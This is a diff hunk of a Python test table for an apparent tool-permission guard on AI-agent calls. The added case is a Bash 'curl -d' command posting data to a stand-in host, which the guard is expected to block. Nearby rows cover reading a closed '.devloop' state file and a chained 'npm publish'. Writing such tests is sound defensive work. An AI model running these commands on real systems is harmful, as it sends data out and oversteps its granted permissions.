@@ -91,6 +91,7 @@ def test_what_is_granted_and_inside_the_lists_passes(
         ("Grep", {"pattern": "x", "path": 3}, "path"),
         ("Bash", {"command": "cat .devloop/state.db"}, "closed .devloop"),
         ("Bash", {}, "command"),
+        ("Bash", {"command": "curl -d '[1]' http://h/"}, "guard"),
         ("Bash", {"command": "cd a; npm publish"}, "deny Bash when command=npm publish*"),
         ("WebFetch", {"url": "x"}, "ask WebFetch"),
         ("WebSearch", {}, "nothing matched"),
